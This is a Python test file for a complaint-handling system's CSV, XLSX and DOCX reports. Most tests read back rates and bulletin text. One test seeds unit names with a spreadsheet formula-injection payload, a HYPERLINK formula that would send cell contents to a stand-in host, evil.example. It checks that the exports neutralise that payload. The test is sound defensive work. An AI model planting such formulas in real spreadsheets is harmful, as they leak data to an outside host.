"""The rates report as CSV and XLSX, and the bulletin as DOCX: each file is opened with its
library and the numbers are read back."""
from __future__ import annotations

import csv
from datetime import date
from io import BytesIO, StringIO

import pytest
from docx import Document
from openpyxl import load_workbook

from intake.reports.bulletin import compose_bulletin, render_bulletin_docx
from intake.time.calendar import BureauCalendar
from intake.store.models import CaseAssignment, Censure, CensureCase, Commendation, UnitResult
from intake.reports.exports import render_rates_csv, render_rates_xlsx
from intake.reports.rates import Grouping, Period, compute_rates
from intake.statuses import (CensureGround, CensureKind, CensureStatus, CommendationKind,
                             ReturnCategory, Verdict)
from tests.report_seed import NOW, local, seed_report_cases

NOVEMBER = Period(date(2026, 11, 1), date(2026, 11, 30))
CALENDAR = BureauCalendar()


@pytest.fixture
def report(demo):
    seed_report_cases(demo)
    return compute_rates(demo, NOVEMBER, now=NOW, calendar=CALENDAR, grouping=Grouping.UNIT)


def test_csv_reads_back(report):
    text = render_rates_csv(report).decode("utf-8-sig")
    lines = {row["unit"]: row for row in csv.DictReader(StringIO(text))}
    assert lines["total"]["received"] == "9" and lines["total"]["participation_rate"] == "0.4"
    assert lines["县人民医院"]["transferred_due"] == "2"
    assert lines["县人民医院"]["participation_rate"] == "0.0"
    assert lines["南山乡卫生院"]["completion_rate"] == ""  # a null rate


def test_xlsx_reads_back(report):
    sheet = load_workbook(BytesIO(render_rates_xlsx(report)))["rates"]
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    header = list(values[0])
    lines = {row[0]: dict(zip(header, row)) for row in values[1:]}
    assert lines["total"]["completed"] == 4
    assert lines["total"]["feedback_rate"] == 0.75
    assert lines["城关镇卫生院"]["on_time"] == 2
    assert lines["南山乡卫生院"]["satisfaction_rate"] is None
    assert sheet.cell(row=3, column=header.index("completion_rate") + 1).number_format == "0.0%"


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_a_formula_like_unit_name_is_inert_in_the_csv_and_the_xlsx(demo):
    """Issue 16 item 7: text cells in XLSX, a leading quote in CSV (OWASP)."""
    seeded = seed_report_cases(demo)
    seeded["units"]["南山乡卫生院"].name = FORMULA
    seeded["units"]["县人民医院"].name = "@SUM(1+1)"
    demo.commit()
    report = compute_rates(demo, NOVEMBER, now=NOW, calendar=CALENDAR, grouping=Grouping.UNIT)
    text = render_rates_csv(report).decode("utf-8-sig")
    units = [row["unit"] for row in csv.DictReader(StringIO(text))]
    assert "'" + FORMULA in units and "'@SUM(1+1)" in units and "城关镇卫生院" in units
    assert FORMULA not in units
    sheet = load_workbook(BytesIO(render_rates_xlsx(report)))["rates"]
    cells = {cell.value: cell for (cell,) in sheet.iter_rows(min_row=3, max_col=1)}
    for name in (FORMULA, "@SUM(1+1)"):
        assert cells[name].data_type == "s" and cells[name].quotePrefix
    assert not cells["城关镇卫生院"].quotePrefix
    # The numbers stay numbers.
    assert isinstance(sheet.cell(row=3, column=3).value, int)


def test_bulletin_docx_prints_units_criticisms_overdue_and_commendations(demo):
    seeded = seed_report_cases(demo)
    c10 = seeded["cases"]["c10"]
    assignment = demo.query(CaseAssignment).filter_by(case_id=c10.id).one()
    for n, category in enumerate((ReturnCategory.FORMAT, ReturnCategory.QUALITY,
                                  ReturnCategory.QUALITY)):
        demo.add(UnitResult(case=c10, unit_id=assignment.unit_id, assignment_id=assignment.id,
                            facts_true="true", causes="c", measures="m", liaison_opinion="o",
                            signed_by="李院长", sealed=True, submitted_at=local(11, 13 + n),
                            verdict=Verdict.RETURNED, return_category=category,
                            verdict_reason=f"第{n + 1}次退回", verdict_at=local(11, 13 + n, 15)))
    assignment.returns = 3
    assignment.criticism_flagged_at = local(11, 15, 15)
    # Printed only once the supervision office confirmed it (issue 17 item 1).
    demo.add(Censure(kind=CensureKind.CRITICISM, ground=CensureGround.RETURNED_THREE_TIMES,
                     status=CensureStatus.CONFIRMED, unit_id=assignment.unit_id,
                     facts="连续三次退回", created_at=local(11, 15, 15),
                     decided_at=local(11, 16, 9), decided_by="user:sup",
                     links=[CensureCase(case=c10, case_id=c10.id)]))
    demo.add(Censure(kind=CensureKind.CRITICISM, ground=CensureGround.LATE_UNEXPLAINED,
                     status=CensureStatus.PROPOSED, unit_id=assignment.unit_id,
                     facts="未确认的提示", created_at=local(11, 15, 15)))
    demo.add(Commendation(kind=CommendationKind.BANNER, unit=seeded["units"]["县人民医院"],
                          received_on=date(2026, 11, 18), giver="张大爷", evidence="送来锦旗一面"))
    demo.add(Commendation(kind=CommendationKind.LETTER, unit=seeded["units"]["县人民医院"],
                          received_on=date(2026, 10, 18), giver="旧的", evidence="上个月的表扬信"))
    demo.commit()

    bulletin = compose_bulletin(demo, NOVEMBER, now=NOW, calendar=CALENDAR)
    document = Document(BytesIO(render_bulletin_docx(bulletin)))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "2026年11月01日至2026年11月30日" in text
    assert "共受理群众诉求 9 件，办结 4 件，办结率 44.4%" in text
    tables = document.tables
    unit_lines = {row.cells[0].text: [c.text for c in row.cells] for t in tables[:2]
                  for row in t.rows[1:]}
    assert unit_lines["县人民医院"][1:4] == ["3", "2", "66.7%"]
    assert unit_lines["县人民医院"][-3:] == ["2", "0", "0.0%"]
    assert unit_lines["南山乡卫生院"][3] == "—"
    assert f"城关镇卫生院：案件 {c10.number} 办理结果连续 3 次被退回重办" in text
    assert "格式不全：第1次退回；答非所问：第2次退回" in text
    assert "未确认的提示" not in text
    overdue = [row.cells[0].text for row in tables[-1].rows[1:]]
    # Past their deadline and still being worked on: c4, c6, c10 (and c5 is not yet due).
    assert set(overdue) == {seeded["cases"][n].number for n in ("c4", "c6", "c10")}
    assert "县人民医院　收到张大爷锦旗：送来锦旗一面" in text
    assert "上个月的表扬信" not in text
